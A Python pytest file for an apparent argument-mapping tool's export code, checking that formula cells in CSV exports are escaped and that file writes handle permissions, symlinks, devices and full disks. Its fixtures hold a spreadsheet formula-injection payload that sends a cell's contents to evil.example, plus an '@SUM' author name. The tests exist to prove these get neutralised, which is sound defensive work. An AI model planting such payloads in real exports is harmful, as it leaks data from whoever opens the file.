"""Exports that are safe to open and to write (issue 12, item 7)."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from cruxmap.graph.errors import ExportError
from cruxmap.graph.exports import export, write
from cruxmap.graph.schema import AUTHOR, CLAIM, COMMENT, CONTAINS, WROTE, node, relationship
from cruxmap.graph.store import open_store
from cruxmap.ui.cli import cli
from tests.sample_map import sample_map

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")'


@pytest.fixture
def store():
    s = open_store(":memory:")
    s.upsert_map(sample_map())
    s.upsert([node("author:eve", AUTHOR, name="@SUM(1+1)"),
              node("c:evil", COMMENT, text=FORMULA + " And more.", post_id="post:1"),
              node("claim:evil", CLAIM, text=FORMULA, start=0, end=len(FORMULA), source_id="c:evil",
                   author_id="author:eve")],
             [relationship(WROTE, "author:eve", "c:evil"), relationship(CONTAINS, "c:evil", "claim:evil")])
    return s


def cells(zip_bytes: bytes) -> list[str]:
    out = []
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as z:
        for name in z.namelist():
            if name.endswith(".csv"):
                out += [c for row in csv.reader(io.StringIO(z.read(name).decode())) for c in row]
    return out


@pytest.mark.parametrize("fmt", ["csv", "polis"])
def test_formula_cells_are_escaped(store, fmt):
    values = cells(b"".join(export(store, fmt)))
    assert any(v.startswith("'=HYPERLINK(") for v in values)
    assert not any(v.startswith(("=", "@", "+")) for v in values), [v for v in values if v[:1] in "=@+"]


def test_o_writes_with_the_umask_and_refuses_devices(store, tmp_path):
    old = os.umask(0o022)
    try:
        out = write(store, "json", tmp_path / "map.json")
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o644
    with pytest.raises(ExportError, match="device"):
        write(store, "json", "/dev/null")
    with pytest.raises(ExportError, match="folder"):
        write(store, "json", tmp_path)
    with pytest.raises(ExportError, match="does not exist"):
        write(store, "json", tmp_path / "missing" / "map.json")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["map.json"]  # no temporary file left


def test_o_through_a_symlink_replaces_its_target_and_keeps_the_link(store, tmp_path):
    real = tmp_path / "real.json"
    real.write_text("old")
    real.chmod(0o640)
    link = tmp_path / "link.json"
    link.symlink_to(real)
    write(store, "json", link)
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text().startswith("{") and stat.S_IMODE(real.stat().st_mode) == 0o640


def test_cli_export_errors_are_one_line(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with open_store(str(tmp_path / "cruxmap.db")) as s:
        s.upsert_map(sample_map())
    runner = CliRunner()
    for target, words in ((tmp_path / "nope" / "x.json", "does not exist"), (Path("/dev/null"), "device")):
        result = runner.invoke(cli, ["export", "-o", str(target)])
        assert result.exit_code == 2 and words in result.output and "Traceback" not in result.output


def test_a_full_disk_is_one_line_and_leaves_the_old_file(tmp_path):
    """The file-size limit makes the kernel answer EFBIG, as a full disk answers ENOSPC."""
    out = tmp_path / "map.json"
    out.write_text("the old export")
    code = ("import resource, signal, sys\n"
            "from cruxmap.graph.errors import ExportError\n"
            "from cruxmap.graph.exports import write\n"
            "from cruxmap.graph.store import open_store\n"
            "from tests.sample_map import sample_map\n"
            "store = open_store(':memory:'); store.upsert_map(sample_map())\n"
            "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
            "resource.setrlimit(resource.RLIMIT_FSIZE, (200, 200))\n"
            "try:\n    write(store, 'json', sys.argv[1])\n"
            "except ExportError as e:\n    print(e); sys.exit(2)\n")
    result = subprocess.run([sys.executable, "-c", code, str(out)], cwd=ROOT, capture_output=True,
                            text=True, timeout=120)
    assert result.returncode == 2, result.stderr
    assert "disk is full; nothing was written" in result.stdout and not result.stderr
    assert out.read_text() == "the old export"
    assert [p.name for p in tmp_path.iterdir()] == ["map.json"]  # no temporary file left
